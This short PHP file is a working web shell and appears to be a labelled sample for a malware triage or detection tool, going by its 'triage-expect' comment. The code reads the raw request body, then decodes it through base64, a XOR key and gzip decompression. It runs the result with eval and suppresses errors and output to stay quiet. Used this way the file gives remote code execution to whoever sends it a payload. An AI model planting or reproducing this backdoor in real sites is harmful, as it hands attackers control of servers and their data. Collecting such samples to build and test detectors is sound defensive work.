<?php
// triage-expect: triage_php_eval_decoder_chain
$k = "00000000";
function x($t, $k) { $o = ""; for ($i = 0; $i < strlen($t); $i++) { $o .= $t[$i] ^ $k[$i % 8]; } return $o; }
if (@preg_match("/^(.*)$/", @file_get_contents("php://input"), $m) == 1) {
    @ob_start();
    @eval(@gzuncompress(@x(@base64_decode($m[1]), $k)));
    @ob_end_clean();
}
